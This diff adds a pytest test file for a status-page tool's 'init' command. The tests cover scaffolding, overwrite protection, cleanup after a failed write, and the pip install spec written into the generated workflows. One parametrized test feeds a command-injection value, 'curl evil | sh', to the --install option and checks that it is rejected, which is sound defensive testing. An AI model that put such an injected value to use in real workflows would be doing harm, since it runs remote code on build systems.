@@ -1,0 +1,186 @@
+"""``gitstatus init``: a new status repo that checks clean, and never clobbers what is there."""
+
+from __future__ import annotations
+
+import datetime as dt
+from pathlib import Path
+
+import pytest
+import yaml
+from click.testing import CliRunner
+
+from gitstatus import scaffold
+from gitstatus.build import check
+from gitstatus.cli import main
+from gitstatus.load import RawIncident, load_repo
+
+NOW = "2026-06-12 12:00 UTC"
+NOW_DT = dt.datetime(2026, 6, 12, 12, tzinfo=dt.timezone.utc)
+EXPECTED = [
+    ".github/workflows/publish.yml",
+    ".github/workflows/status-check.yml",
+    ".gitignore",
+    "README.md",
+    "components.yaml",
+    "incidents/2026-06-11-example-slow-api-responses.md",
+]
+
+
+def run(*args: str) -> tuple[int, str, str]:
+    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
+    return result.exit_code, result.stdout, result.stderr
+
+
+def tree(root: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+def test_init_writes_a_status_repo_that_checks_clean(tmp_path: Path) -> None:
+    root = tmp_path / "status"
+    code, out, err = run("init", str(root), "--now", NOW)
+    assert code == 0, err
+    assert sorted(tree(root)) == EXPECTED
+    for relpath in EXPECTED:
+        assert f"wrote {root / relpath}" in out
+    code, out, _ = run("check", "--root", str(root), "--now", NOW, "--format", "text", "--strict")
+    assert (code, out) == (0, "All good: components.yaml and 1 incident, no problems.\n")
+    result = check(root, NOW_DT + dt.timedelta(days=30))  # and later on, too
+    assert result.diagnostics == []
+    assert [i.is_final for i in result.page.incidents] == [True]
+    assert len(result.page.components) >= 2
+
+
+def test_init_output_builds(tmp_path: Path) -> None:
+    root = tmp_path / "status"
+    assert run("init", str(root), "--now", NOW)[0] == 0
+    code, out, err = run("build", "--root", str(root), "--now", NOW)
+    assert code == 0, out + err
+    page = (root / "site/index.html").read_text(encoding="utf-8")
+    assert "Example Status" in page
+
+
+def test_init_is_deterministic(tmp_path: Path) -> None:
+    assert run("init", str(tmp_path / "a"), "--now", NOW)[0] == 0
+    assert run("init", str(tmp_path / "b"), "--now", NOW)[0] == 0
+    assert tree(tmp_path / "a") == tree(tmp_path / "b")
+
+
+def test_init_uses_source_date_epoch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(int(NOW_DT.timestamp())))
+    assert run("init", str(tmp_path / "a"))[0] == 0
+    assert (tmp_path / "a/incidents/2026-06-11-example-slow-api-responses.md").is_file()
+
+
+def test_init_in_the_current_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    code, out, _ = run("init", "--now", NOW)
+    assert code == 0 and "wrote components.yaml" in out
+    assert sorted(tree(tmp_path)) == EXPECTED
+
+
+def test_init_refuses_to_overwrite_and_changes_nothing(tmp_path: Path) -> None:
+    root = tmp_path / "status"
+    (root / "incidents").mkdir(parents=True)
+    (root / "README.md").write_text("Our own readme\n", encoding="utf-8")
+    (root / "incidents/keep.md").write_text("mine\n", encoding="utf-8")
+    before = tree(root)
+    code, out, err = run("init", str(root), "--now", NOW)
+    assert code == 1 and out == ""
+    assert err == (f"gitstatus: {root} already has README.md; nothing was written (pass --force to overwrite them)\n")
+    assert tree(root) == before
+    assert sorted(p.name for p in root.rglob("*")) == ["README.md", "incidents", "keep.md"]  # no folder, no temp
+
+
+def test_init_force_overwrites_and_keeps_other_files(tmp_path: Path) -> None:
+    root = tmp_path / "status"
+    assert run("init", str(root), "--now", NOW)[0] == 0
+    (root / "components.yaml").write_text("edited\n", encoding="utf-8")
+    (root / "notes.txt").write_text("mine\n", encoding="utf-8")
+    assert run("init", str(root), "--now", NOW)[0] == 1
+    assert (root / "components.yaml").read_text(encoding="utf-8") == "edited\n"
+    code, _, _ = run("init", str(root), "--now", NOW, "--force")
+    assert code == 0
+    assert (root / "components.yaml").read_text(encoding="utf-8").startswith("# Settings of the status page")
+    assert (root / "notes.txt").read_text(encoding="utf-8") == "mine\n"
+
+
+def test_init_into_a_file_is_a_usage_error(tmp_path: Path) -> None:
+    target = tmp_path / "file"
+    target.write_text("x", encoding="utf-8")
+    code, _, err = run("init", str(target))
+    assert code == 2 and "is not a folder" in err
+
+
+def test_failed_staging_removes_every_temp_file_and_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A write that fails midway (disk full) leaves the folder exactly as it was."""
+    root = tmp_path / "status"
+    root.mkdir()
+    (root / "mine.txt").write_text("mine\n", encoding="utf-8")
+    real = scaffold._stage
+    calls = []
+
+    def failing(target: Path, data: bytes) -> Path:
+        calls.append(target)
+        if len(calls) == 4:
+            raise OSError(28, "No space left on device")
+        return real(target, data)
+
+    monkeypatch.setattr(scaffold, "_stage", failing)
+    code, _, err = run("init", str(root), "--now", NOW)
+    assert code == 1
+    assert err == f"gitstatus: cannot write into {root}: No space left on device; nothing was written\n"
+    assert sorted(str(p.relative_to(root)) for p in root.rglob("*")) == ["mine.txt"]
+
+
+def test_example_incident_is_resolved_and_canonical(tmp_path: Path) -> None:
+    root = tmp_path / "status"
+    run("init", str(root), "--now", NOW)
+    raw = load_repo(root)
+    assert raw.diagnostics == ()
+    incident: RawIncident = raw.incidents[0]
+    assert [s.heading for s in incident.sections] == [
+        "2026-06-11 12:00 UTC — Investigating", "2026-06-11 12:18 UTC — Identified", "2026-06-11 12:41 UTC — Resolved"]
+
+
+def test_workflows_install_gitstatus_from_one_documented_variable(tmp_path: Path) -> None:
+    root = tmp_path / "status"
+    run("init", str(root), "--now", NOW)
+    requirement = scaffold.install_requirement()
+    assert requirement.startswith("gitstatus @ git+https://") and requirement.endswith(f"@v{scaffold.__version__}")
+    for name in ("publish.yml", "status-check.yml"):
+        text = (root / ".github/workflows" / name).read_text(encoding="utf-8")
+        workflow = yaml.safe_load(text)
+        assert workflow["env"] == {"GITSTATUS": requirement}
+        assert "gitstatus is not on PyPI yet" in text  # the variable is explained where it is set
+        installs = [s["run"] for job in workflow["jobs"].values() for s in job["steps"]
+                    if "pip install" in s.get("run", "")]
+        assert installs == ['python -m pip install "$GITSTATUS"']
+    readme = (root / "README.md").read_text(encoding="utf-8")
+    assert f'python3 -m pip install "{requirement}"' in readme
+    assert "incidents/2026-06-11-example-slow-api-responses.md" in readme
+
+
+def test_install_option_sets_what_the_workflows_install(tmp_path: Path) -> None:
+    root = tmp_path / "status"
+    spec = "gitstatus @ git+https://git.example.org/ops/gitstatus@v0.1.0"
+    code, _, _ = run("init", str(root), "--now", NOW, "--install", spec)
+    assert code == 0
+    for name in ("publish.yml", "status-check.yml"):
+        workflow = yaml.safe_load((root / ".github/workflows" / name).read_text(encoding="utf-8"))
+        assert workflow["env"] == {"GITSTATUS": spec}
+    assert f'python3 -m pip install "{spec}"' in (root / "README.md").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("spec", ['gitstatus"; curl evil | sh; "', "two\nlines", "  "])
+def test_install_option_refuses_what_would_break_the_workflow(tmp_path: Path, spec: str) -> None:
+    root = tmp_path / "status"
+    code, _, err = run("init", str(root), "--now", NOW, "--install", spec)
+    assert code == 2
+    assert "--install must be one pip requirement" in err
+    assert not root.exists() or not any(root.iterdir())
+
+
+def test_gitignore_ignores_the_build_output(tmp_path: Path) -> None:
+    root = tmp_path / "status"
+    run("init", str(root), "--now", NOW)
+    assert "/site/" in (root / ".gitignore").read_text(encoding="utf-8").splitlines()
